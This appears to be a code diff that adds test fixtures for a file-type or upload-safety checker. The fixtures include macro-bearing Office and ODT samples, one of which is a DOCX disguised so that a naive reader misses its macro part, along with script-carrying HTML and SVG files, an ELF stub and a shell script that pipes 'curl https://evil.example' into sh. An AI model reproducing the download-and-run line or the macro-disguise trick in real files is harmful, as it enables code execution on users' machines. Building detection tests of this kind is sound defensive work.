@@ -43,6 +43,15 @@ export function buildZip(entries: { name: string; data: string | Buffer; deflate
   return Buffer.concat([...locals, cd, end]);
 }
 
+const DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
+
+function officeWithMain(partName: string, contentType: string): Buffer {
+  return buildZip([
+    { name: "[Content_Types].xml", deflate: true, data: `<Types><Override PartName="/${partName}" ContentType="${contentType}"/></Types>` },
+    { name: partName, data: "<x/>", deflate: true },
+  ]);
+}
+
 export const samples = {
   pdf: Buffer.concat([Buffer.from("%PDF-1.4\n%âãÏÓ\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n", "latin1")]),
   png: Buffer.from("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489", "hex"),
@@ -69,6 +78,53 @@ export const samples = {
       data: '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
     },
   ]),
+  /** A real .docm's shape: macro-enabled main part, a VBA project and its content type. */
+  docmWithVbaProject: buildZip([
+    {
+      name: "[Content_Types].xml",
+      deflate: true,
+      data:
+        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
+        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' +
+        '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
+    },
+    { name: "word/document.xml", data: "<w:document/>", deflate: true },
+    { name: "word/vbaProject.bin", data: Buffer.from("d0cf11e0a1b11ae1", "hex"), deflate: true },
+  ]),
+  /** Declares itself a plain DOCX but carries a VBA project. */
+  docxCarryingVbaProject: buildZip([
+    {
+      name: "[Content_Types].xml",
+      deflate: true,
+      data: `<Types><Override PartName="/word/document.xml" ContentType="${DOCX_MAIN}"/></Types>`,
+    },
+    { name: "word/document.xml", data: "<w:document/>", deflate: true },
+    { name: "word/vbaProject.bin", data: Buffer.from("d0cf11e0a1b11ae1", "hex") },
+  ]),
+  /** Names the DOCX main part first, then declares a macro-enabled part (file-type reads only the first). */
+  docxDeclaringMacroPart: buildZip([
+    {
+      name: "[Content_Types].xml",
+      deflate: true,
+      data:
+        `<Types><Override PartName="/word/document.xml" ContentType="${DOCX_MAIN}"/>` +
+        '<Override PartName="/word/other.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
+    },
+    { name: "word/document.xml", data: "<w:document/>", deflate: true },
+  ]),
+  xlsm: officeWithMain("xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
+  pptm: officeWithMain("ppt/presentation.xml", "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"),
+  xlsx: officeWithMain("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
+  /** An ODT carrying a LibreOffice Basic macro library. */
+  odtWithBasicMacro: buildZip([
+    { name: "mimetype", data: "application/vnd.oasis.opendocument.text" },
+    { name: "content.xml", data: "<office:document-content/>", deflate: true },
+    { name: "Basic/Standard/Module1.xml", data: "<script:module>Sub Main\nShell(\"calc\")\nEnd Sub</script:module>", deflate: true },
+  ]),
+  html: Buffer.from("<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"),
+  svgWithScript: Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
+  elf: Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(120, 0)]),
+  shellScript: Buffer.from("#!/bin/sh\ncurl https://evil.example | sh\n"),
   plainZip: buildZip([{ name: "readme.txt", data: "hello" }]),
   odsSpreadsheet: buildZip([{ name: "mimetype", data: "application/vnd.oasis.opendocument.spreadsheet" }]),
 };
